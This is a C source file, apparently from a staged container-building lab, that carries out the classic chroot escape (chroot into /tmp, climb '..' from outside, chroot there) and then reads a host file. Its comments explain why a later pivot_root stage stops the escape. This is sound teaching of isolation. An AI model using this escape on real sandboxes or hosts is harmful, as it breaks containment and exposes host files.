/*
 * escape - the classic way out of a chroot, to show why stage 04 uses pivot_root.
 *
 * Used in stage 03 (mount-chroot) and stage 04 (pivot-overlay). Inside a stage 03
 * container, which only chroot()s into its root filesystem, "escape -t /tmp/marker" reads
 * a file of the host and prints "escaped: ...". Inside a stage 04 container it prints
 * "still inside: ...", and without CAP_SYS_CHROOT (stage 08) it fails at the first step.
 * Whether it escaped is decided by comparing the device and inode of "/" before and
 * after the climb, not by whether FILE happens to be readable.
 *
 * Usage: escape [-t FILE]
 *
 * How it works. chroot(2) changes one thing: the directory where a path walk starting
 * with "/" begins, and where ".." stops climbing. It does not change the current
 * directory, and the kernel only refuses to climb ".." when the walk is exactly at the
 * process's root (see path_resolution(7)). So, as root:
 *   1. chdir("/") then chroot("/tmp"): the root is now /tmp, but the current directory is
 *      still the container's top directory, which lies *outside* the new root;
 *   2. chdir("..") 64 times: no walk ever passes through /tmp, so the root check never
 *      fires and ".." climbs through the container's directory into the host's tree up
 *      to the host's real top directory, where ".." leads to itself;
 *   3. chroot("."): make that directory the root. The process now sees the host.
 * 64 is simply "more levels than any real path has"; extra ".." at the top are harmless.
 *
 * Why pivot_root stops it. pivot_root(2) makes the container's filesystem the root *mount*
 * of its mount namespace, and the stage then unmounts the old root. Climbing ".." stops at
 * the root of the topmost mount; above the container's root there is no mount left, so no
 * path, whatever the current directory, leads to the host's files. A chroot() inside can
 * still move the root around, but only within the container's own tree.
 *
 * Exit status: 0 when the root moved and FILE was read (or, without -t, the listing
 * was printed), 1 when the root did not move, FILE was not found or a step failed,
 * 2 on bad usage.
 *
 * Further reading: chroot(2) (its NOTES), pivot_root(2), path_resolution(7),
 * mount_namespaces(7).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <err.h>
#include <errno.h>
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "workload.h"

#define CLIMB	   64
#define SHOW_NAMES 8

static void __attribute__((noreturn)) usage(void)
{
	printf("usage: escape [-t FILE]\n"
	       "\n"
	       "Try the classic chroot escape (chroot into /tmp, climb \"..\" from outside it,\n"
	       "chroot there). Then read FILE, a path on the host, or list \"/\".\n"
	       "\n"
	       "  -t, --target FILE  print FILE; exit 0 if it could be read, 1 if not found\n"
	       "  -h, --help         show this help\n");
	exit(0);
}

static void climb_out(void)
{
	/* Start from our root, so the current directory is above the new root. */
	if (chdir("/") < 0)
		err(1, "chdir /");
	if (chroot("/tmp") < 0)
		err(1, "chroot /tmp");
	for (int i = 0; i < CLIMB; i++) {
		if (chdir("..") < 0)
			err(1, "chdir .. (step %d)", i + 1);
	}
	if (chroot(".") < 0)
		err(1, "chroot .");
	/* Make "." and "/" the same directory again, so relative paths agree with "/". */
	if (chdir("/") < 0)
		err(1, "chdir / after the escape");
}

/* Copy FILE to stdout. Returns 0, or the errno of open() when it could not be opened. */
static int show_file(const char *path)
{
	char buf[4096], last = '\n';
	FILE *f = fopen(path, "r");
	size_t n;

	if (!f)
		return errno;
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0) {
		if (fwrite(buf, 1, n, stdout) != n)
			err(1, "stdout");
		last = buf[n - 1];
	}
	if (ferror(f))
		err(1, "read %s", path);
	fclose(f);
	/* Keep the verdict on a line of its own even if FILE lacks a final newline. */
	if (last != '\n')
		putchar('\n');
	return 0;
}

static int not_dots(const struct dirent *d)
{
	return strcmp(d->d_name, ".") != 0 && strcmp(d->d_name, "..") != 0;
}

static void list_root(void)
{
	struct dirent **names;
	int n = scandir("/", &names, not_dots, alphasort);

	if (n < 0)
		err(1, "scandir /");
	printf("/ now has %d entries:", n);
	for (int i = 0; i < n; i++) {
		if (i < SHOW_NAMES)
			printf(" %s", names[i]->d_name);
		free(names[i]);
	}
	free(names);
	printf("%s\n", n > SHOW_NAMES ? " ..." : "");
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "target", required_argument, NULL, 't' },
		{ "help", no_argument, NULL, 'h' },
		{ NULL, 0, NULL, 0 },
	};
	const char *target = NULL;
	struct stat before, after;
	int opt, e;

	while ((opt = getopt_long(argc, argv, "t:h", opts, NULL)) != -1) {
		switch (opt) {
		case 't':
			target = optarg;
			break;
		case 'h':
			usage();
		default:
			try_help();
		}
	}
	no_operands(argc, argv);

	/* The verdict comes from the kernel: did "/" become another directory? */
	if (stat("/", &before) < 0)
		err(1, "stat /");
	climb_out();
	if (stat("/", &after) < 0)
		err(1, "stat / after the climb");
	if (before.st_dev == after.st_dev && before.st_ino == after.st_ino) {
		printf("still inside: / is the directory it was before (chroot escape failed)\n");
		return 1;
	}

	if (!target) {
		list_root();
		return 0;
	}

	e = show_file(target);
	if (e == 0) {
		printf("escaped: / is another directory now, and %s could be read\n", target);
		return 0;
	}
	if (e == ENOENT) {
		printf("escaped, but %s is not there\n", target);
		return 1;
	}
	errno = e;
	err(1, "open %s", target);
}
